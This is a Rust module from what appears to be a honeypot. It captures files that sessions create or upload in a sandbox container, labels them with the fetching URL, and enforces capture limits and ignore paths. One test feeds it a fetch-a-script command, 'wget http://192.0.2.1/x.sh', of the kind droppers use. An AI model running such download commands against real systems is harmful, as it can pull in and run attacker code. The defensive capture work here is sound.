//! What a session leaves behind: files created or changed in its container, copied
//! into a content-addressed store, labelled with the URL that fetched them or the
//! scp/sftp upload that brought them.
//!
//! The decisions live here (limits, what was seen, upload or download); the session
//! drives a pass through the [`crate::sandbox::Sandbox`] traits and emits the events.

pub mod downloads;
pub mod fetch_hints;
pub mod store;
pub mod uploads;

use std::collections::{HashMap, HashSet};

pub use downloads::{Fetch, fetches, url_for};
pub use fetch_hints::FetchHints;
pub use store::{FileStore, StoreError, Stored, sha256_hex};
pub use uploads::{ScpUploads, SftpUploads, Upload};

/// Limits on what one session may put into the store.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CaptureLimits {
    /// Largest file copied.
    pub max_file_size: u64,
    /// Most files copied per session.
    pub max_files_per_session: usize,
    /// Paths never copied (exact paths, prefixes ending in `/`, or paths whose `*`
    /// stands for any characters within one segment): files the login and the box's
    /// own daemons write, such as wtmp, lastlog and systemd's journal.
    pub ignore_paths: Vec<String>,
}

impl CaptureLimits {
    /// Whether `path` is on the ignore list.
    pub fn ignores(&self, path: &str) -> bool {
        self.ignore_paths.iter().any(|ignored| {
            if ignored.ends_with('/') {
                path.starts_with(ignored.as_str())
            } else if ignored.contains('*') {
                matches_segments(ignored, path)
            } else {
                path == ignored
            }
        })
    }
}

/// `pattern` against `path`, segment by segment: as many segments, and a `*` in one
/// stands for any characters of that segment only (never a `/`). Runs for every
/// changed path of every capture pass, so it allocates nothing.
fn matches_segments(pattern: &str, path: &str) -> bool {
    let (mut patterns, mut segments) = (pattern.split('/'), path.split('/'));
    loop {
        match (patterns.next(), segments.next()) {
            (Some(pattern), Some(segment)) if matches_segment(pattern, segment) => {}
            (None, None) => return true,
            _ => return false,
        }
    }
}

fn matches_segment(pattern: &str, segment: &str) -> bool {
    let Some((first, after_first)) = pattern.split_once('*') else {
        return pattern == segment;
    };
    let (middles, last) = after_first.rsplit_once('*').unwrap_or(("", after_first));
    let Some(rest) = segment.strip_prefix(first) else {
        return false;
    };
    let Some(mut rest) = rest.strip_suffix(last) else {
        return false;
    };
    // Each middle part at its first place after the one before: the leftmost
    // places leave the most room for the rest.
    for middle in middles.split('*') {
        match rest.find(middle) {
            Some(at) => rest = &rest[at + middle.len()..],
            None => return false,
        }
    }
    true
}

/// How a file came into the container.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileKind {
    /// Created in the session (fetched, written, unpacked...).
    Download,
    /// Sent by the client with scp or sftp.
    Upload,
}

impl FileKind {
    /// Name used in the metadata.
    pub fn as_str(self) -> &'static str {
        match self {
            FileKind::Download => "download",
            FileKind::Upload => "upload",
        }
    }
}

/// A file the session captured, for its metadata.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CapturedFile {
    /// When it was copied (ISO 8601).
    pub time: String,
    /// Download or upload.
    pub kind: FileKind,
    /// Path in the container.
    pub destfile: String,
    /// SHA-256.
    pub shasum: String,
    /// Bytes.
    pub size: u64,
    /// The URL that fetched it, when known.
    pub url: Option<String>,
    /// The name the client gave an upload.
    pub filename: Option<String>,
    /// The store had it already.
    pub duplicate: bool,
}

/// Why a file was not copied.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SkipReason {
    /// Larger than `max_file_size`.
    TooLarge,
    /// The session reached `max_files_per_session`.
    TooMany,
    /// The store reached `max_store_size`.
    StoreFull,
    /// The store could not be written.
    StoreError,
}

impl SkipReason {
    /// Name used in `hermes.file.skipped`.
    pub fn as_str(self) -> &'static str {
        match self {
            SkipReason::TooLarge => "max_file_size",
            SkipReason::TooMany => "max_files_per_session",
            SkipReason::StoreFull => "max_store_size",
            SkipReason::StoreError => "store_error",
        }
    }
}

/// Skip events reported per session; past it, skipped files are only counted.
pub const MAX_SKIP_EVENTS: usize = 100;

/// One session's capture state: what was seen (so a pass copies only what changed
/// since the last), what was stored, and the hints that label files.
#[derive(Debug, Default)]
pub struct SessionFiles {
    /// Path to (size, modification time) when last looked at.
    seen: HashMap<String, (u64, String)>,
    /// (path, sha256) of files copied, so the same content at the same path is
    /// reported once.
    copied: HashSet<(String, String)>,
    stored: usize,
    skips_reported: usize,
    /// Files not copied, all reasons.
    pub skipped: usize,
    /// Fetches the session's commands asked for, shared with its box's gateway.
    pub fetches: FetchHints,
    /// Files sent with scp or sftp.
    pub uploads: Vec<Upload>,
    /// What was captured, in order.
    pub captured: Vec<CapturedFile>,
}

impl SessionFiles {
    /// Notes a command line's fetches (for labelling files with their URL).
    pub fn command(&mut self, line: &str) {
        self.fetches.note(line);
    }

    /// Whether the file at `path` with this size and time is new or changed since it
    /// was last looked at; remembers it.
    pub fn changed(&mut self, path: &str, size: u64, modified: &str) -> bool {
        let now = (size, modified.to_owned());
        self.seen.get(path) != Some(&now) && {
            self.seen.insert(path.to_owned(), now);
            true
        }
    }

    /// What was seen: handed to the session that takes the box next (it lingered).
    pub fn seen_snapshot(&self) -> HashMap<String, (u64, String)> {
        self.seen.clone()
    }

    /// Takes over what the session before saw on this box: a file still as it saw it
    /// (the account files its login wrote, among them) is not this session's, even
    /// when it changed within this session's first second.
    pub fn inherit_seen(&mut self, seen: HashMap<String, (u64, String)>) {
        for (path, state) in seen {
            self.seen.entry(path).or_insert(state);
        }
    }

    /// Whether the file at `path` differs from when it was last looked at.
    pub fn differs(&self, path: &str, size: u64, modified: &str) -> bool {
        self.seen
            .get(path)
            .is_none_or(|(s, m)| *s != size || m != modified)
    }

    /// `path` was looked at and is not a regular file (or could not be read): later
    /// passes while the session runs leave it, the last one looks at it again.
    pub fn not_a_file(&mut self, path: &str) {
        self.seen
            .entry(path.to_owned())
            .or_insert_with(|| (u64::MAX, String::new()));
    }

    /// Whether `path` was looked at before.
    pub fn seen(&self, path: &str) -> bool {
        self.seen.contains_key(path)
    }

    /// Whether one more file may be copied.
    pub fn has_room(&self, limits: &CaptureLimits) -> bool {
        self.stored < limits.max_files_per_session
    }

    /// Whether a skip should get an event (the first [`MAX_SKIP_EVENTS`] do).
    pub fn report_skip(&mut self) -> bool {
        self.skipped += 1;
        self.skips_reported += 1;
        self.skips_reported <= MAX_SKIP_EVENTS
    }

    /// Whether this content at this path is new to the session; counts it.
    pub fn first_copy(&mut self, path: &str, sha256: &str) -> bool {
        let new = self.copied.insert((path.to_owned(), sha256.to_owned()));
        if new {
            self.stored += 1;
        }
        new
    }

    /// How a file at `path` came: an upload (with the client's name) or not.
    pub fn upload_name(&self, path: &str) -> Option<&str> {
        self.uploads
            .iter()
            .rev()
            .find(|upload| upload.path == path)
            .map(|upload| upload.filename.as_str())
    }

    /// The URL that fetched the file at `path`, if a command of the session did.
    pub fn url(&self, path: &str) -> Option<String> {
        self.fetches.url_for(path)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_file_counts_as_changed_once_per_version() {
        let mut files = SessionFiles::default();
        assert!(files.changed("/tmp/a", 3, "t1"));
        assert!(!files.changed("/tmp/a", 3, "t1"));
        assert!(files.changed("/tmp/a", 4, "t2"));
    }

    #[test]
    fn what_is_not_a_file_is_seen_until_a_file_takes_its_place() {
        let mut files = SessionFiles::default();
        files.not_a_file("/tmp/link");
        assert!(files.seen("/tmp/link"));
        // The last pass compares it: any regular file there differs.
        assert!(files.differs("/tmp/link", 0, "t1"));
        assert!(files.changed("/tmp/link", 0, "t1"));
        // A file already read is not forgotten by a later look.
        files.not_a_file("/tmp/link");
        assert!(!files.differs("/tmp/link", 0, "t1"));
    }

    #[test]
    fn what_the_session_before_saw_is_not_new_unless_it_changed_since() {
        let mut before = SessionFiles::default();
        assert!(before.changed("/etc/shadow", 753, "t1"));
        assert!(before.changed("/tmp/kept", 5, "t1"));
        let mut next = SessionFiles::default();
        // This session already looked at /tmp/kept anew: its own view stays.
        assert!(next.changed("/tmp/kept", 6, "t2"));
        next.inherit_seen(before.seen_snapshot());
        assert!(!next.changed("/etc/shadow", 753, "t1"));
        assert!(!next.changed("/tmp/kept", 6, "t2"));
        // Written again while the box lingered: this session's.
        assert!(next.changed("/etc/shadow", 760, "t3"));
    }

    #[test]
    fn labels_come_from_commands_and_uploads() {
        let mut files = SessionFiles::default();
        files.command("cd /tmp; wget http://192.0.2.1/x.sh");
        files.uploads.push(Upload {
            path: "/root/up.bin".into(),
            filename: "up.bin".into(),
        });
        assert_eq!(
            files.url("/tmp/x.sh").as_deref(),
            Some("http://192.0.2.1/x.sh")
        );
        assert_eq!(files.upload_name("/root/up.bin"), Some("up.bin"));
        assert_eq!(files.upload_name("/tmp/x.sh"), None);
    }

    #[test]
    fn limits() {
        let limits = CaptureLimits {
            max_file_size: 10,
            max_files_per_session: 2,
            ignore_paths: vec!["/var/log/wtmp".into(), "/run/".into()],
        };
        assert!(limits.ignores("/var/log/wtmp"));
        assert!(limits.ignores("/run/utmp"));
        assert!(!limits.ignores("/var/log/wtmp.1"));
        let journal = CaptureLimits {
            ignore_paths: vec![
                "/var/log/journal/*/system.journal".into(),
                "/var/log/journal/*/system@*.journal".into(),
                "/var/lib/systemd/timers/stamp-*.timer".into(),
                "/a/*b*c*/d".into(),
            ],
            ..limits.clone()
        };
        let id = "/var/log/journal/0217284e66c582dfa48647bde271d3fa";
        assert!(journal.ignores(&format!("{id}/system.journal")));
        assert!(journal.ignores(&format!("{id}/system@0005f2-0000.journal")));
        assert!(journal.ignores("/var/lib/systemd/timers/stamp-apt-daily.timer"));
        // `*` stays within its segment, and the rest must match exactly.
        assert!(!journal.ignores("/var/log/journal/a/b/system.journal"));
        assert!(!journal.ignores(&format!("{id}/system.journal.sh")));
        assert!(!journal.ignores(&format!("{id}/miner")));
        assert!(!journal.ignores("/var/log/journal/system.journal"));
        assert!(journal.ignores("/a/bc/d") && journal.ignores("/a/xbyyczz/d"));
        assert!(!journal.ignores("/a/cb/d") && !journal.ignores("/a/b/d"));
        let mut files = SessionFiles::default();
        assert!(files.first_copy("/a", "h1"));
        assert!(!files.first_copy("/a", "h1"));
        assert!(files.has_room(&limits));
        assert!(files.first_copy("/b", "h1"));
        assert!(!files.has_room(&limits));
        for _ in 0..MAX_SKIP_EVENTS {
            assert!(files.report_skip());
        }
        assert!(!files.report_skip());
        assert_eq!(files.skipped, MAX_SKIP_EVENTS + 1);
    }
}
